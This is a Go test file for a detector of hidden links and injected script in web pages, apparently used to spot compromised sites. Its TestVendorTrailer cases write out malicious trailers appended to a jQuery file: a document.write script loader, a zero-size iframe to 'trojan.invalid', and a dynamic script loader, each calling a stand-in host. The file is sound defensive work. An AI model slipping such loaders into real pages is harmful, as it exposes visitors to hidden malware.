package darklink

import (
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// expect is a fixture's expect.json (webtest.Expect, which this
// package's tests cannot import: webtest's browser uses the render, which
// uses this package).
type expect struct {
	Verdict     string `json:"verdict"`
	MinSeverity string `json:"min_severity"`
	NeedsRender bool   `json:"needs_render"` // the static-only mode must say a render is needed
	MustFind    []struct {
		Kind      string `json:"kind"`
		HrefHost  string `json:"href_host"`
		Technique string `json:"technique"`
		Source    string `json:"source"` // the linked style sheet rule cited
	} `json:"must_find"`
	MustNotFindKinds []string `json:"must_not_find_kinds"`
}

// analyseFixture reads every page and script of a fixture directory;
// linked style sheets are read from the directory when css is true.
func analyseFixture(t *testing.T, dir string, css bool) ([]Hit, []string) {
	t.Helper()
	var site struct {
		Site string `json:"site"`
	}
	if b, err := os.ReadFile(filepath.Join(dir, "site.json")); err == nil {
		if err := json.Unmarshal(b, &site); err != nil {
			t.Fatal(err)
		}
	}
	var hits []Hit
	var render []string
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(p, ".json") || strings.HasSuffix(p, ".css") {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		opt := Options{SiteHosts: []string{site.Site}, Path: "/" + filepath.ToSlash(rel)}
		if css {
			opt.ReadCSS = func(u string) ([]byte, error) { return os.ReadFile(filepath.Join(dir, filepath.FromSlash(u))) }
		}
		r := Analyze(p, b, opt)
		hits = append(hits, r.Hits...)
		render = append(render, r.NeedsRender...)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return hits, render
}

// TestCorpus runs the fixtures of corpus_spec.md that static analysis
// must decide (and the render-only ones whose static indicator we give).
func TestCorpus(t *testing.T) {
	dirs, err := filepath.Glob("testdata/darklink/*")
	if err != nil || len(dirs) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	sort.Strings(dirs)
	for _, dir := range dirs {
		t.Run(filepath.Base(dir), func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join(dir, "expect.json"))
			if err != nil {
				t.Fatal(err)
			}
			var e expect
			if err := json.Unmarshal(b, &e); err != nil {
				t.Fatal(err)
			}
			hits, _ := analyseFixture(t, dir, true)
			max := None
			for _, h := range hits {
				if h.Level > max {
					max = h.Level
				}
				t.Logf("%s", h)
			}
			switch e.Verdict {
			case "BENIGN":
				if max > Info {
					t.Errorf("benign fixture at %s", max)
				}
			case "MALICIOUS":
				if max < minLevel(e) {
					t.Errorf("level %s, want at least %s", max, e.MinSeverity)
				}
				for _, m := range e.MustFind {
					found := false
					for _, h := range hits {
						if h.Kind != m.Kind || h.Level < Medium {
							continue
						}
						if m.Technique != "" && h.Technique != m.Technique {
							continue
						}
						if m.HrefHost != "" && !contains(h.Hosts, m.HrefHost) {
							continue
						}
						if m.Source != "" && h.Source != m.Source {
							continue
						}
						found = true
					}
					if !found {
						t.Errorf("missing %+v", m)
					}
				}
			}
			for _, k := range e.MustNotFindKinds {
				for _, h := range hits {
					if h.Kind == k && h.Level > Info {
						t.Errorf("unexpected %s", h)
					}
				}
			}
		})
	}
}

// TestStaticOnly: without linked style sheets (the static-only mode of a
// page alone), every fixture whose verdict needs a render is either
// decided or says it needs a render, never a silent false negative.
func TestStaticOnly(t *testing.T) {
	dirs, _ := filepath.Glob("testdata/darklink/*")
	for _, dir := range dirs {
		b, err := os.ReadFile(filepath.Join(dir, "expect.json"))
		if err != nil {
			t.Fatal(err)
		}
		var e expect
		if err := json.Unmarshal(b, &e); err != nil {
			t.Fatal(err)
		}
		if !e.NeedsRender {
			continue
		}
		_, render := analyseFixture(t, dir, false)
		if len(render) == 0 {
			t.Errorf("%s: no needs_render indicator", filepath.Base(dir))
		}
		t.Logf("%s: %v", filepath.Base(dir), render)
	}
	// M07 without the style sheet: its links look visible (a keyword
	// finding at most), and the page says it needs the render.
	hits, render := analyseFixture(t, "testdata/darklink/m07_external_css", false)
	for _, h := range hits {
		if h.Kind == KindHiddenLink {
			t.Errorf("m07 without its sheet: %s", h)
		}
	}
	if !contains(render, "linked style sheet not loaded: /css/style.css") {
		t.Errorf("m07 render reasons %v", render)
	}
}

func TestLinkedSheetEvidence(t *testing.T) {
	hits, _ := analyseFixture(t, "testdata/darklink/m07_external_css", true)
	for _, h := range hits {
		if h.Kind == KindHiddenLink && h.Source == "css/style.css:4000" {
			if !strings.Contains(h.Detail, ".x9f{position:absolute;top:-999px}") {
				t.Errorf("detail %q", h.Detail)
			}
			return
		}
	}
	t.Fatalf("no hidden link citing the sheet: %v", hits)
}

func TestVendorTrailer(t *testing.T) {
	const lib = "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n" +
		"!function(e,t){\"use strict\";\"object\"==typeof module?module.exports=t(e,!0):t(e)}(\"undefined\"!=typeof window?window:this,function(ie,e){var s=\"3.7.1\";return ie});\n"
	for _, c := range []struct {
		name, trailer string
		want          bool
	}{
		{"pristine", "", false},
		{"source map", "//# sourceMappingURL=jquery.min.map\n", false},
		{"no-conflict", "jQuery.noConflict();\n", false},
		{"same-site loader", ";var s=document.createElement('script');s.src='/js/app.js';document.body.appendChild(s);\n", false},
		{"document.write", ";document.write(\"<script src=http://cdn-jquery.invalid/j.js><\\/script>\")\n", true},
		{"no semicolon", "document.write('<iframe src=\"http://trojan.invalid/\" width=0 height=0></iframe>')\n", true},
		{"createElement", ";(function(){var s=document.createElement('script');s.src='https://dyn.invalid/a.js';document.head.appendChild(s)})();\n", true},
	} {
		r := Analyze("jquery.min.js", []byte(lib+c.trailer), Options{SiteHosts: []string{"www.example-univ.test"}})
		got := false
		for _, h := range r.Hits {
			if h.Technique == "appended-code" && h.Level == High && strings.Contains(h.Detail, "jQuery 3.7.1") {
				got = true
			}
		}
		if got != c.want || r.Library != "jQuery 3.7.1" {
			t.Errorf("%s: appended %v (library %q) %v", c.name, got, r.Library, r.Hits)
		}
		if !c.want && len(r.NeedsRender) > 0 {
			t.Errorf("%s: a known library needs no render: %v", c.name, r.NeedsRender)
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// minLevel is the fixture's min_severity (None when it names no level).
func minLevel(e expect) Level {
	l, _ := ParseLevel(e.MinSeverity)
	return l
}
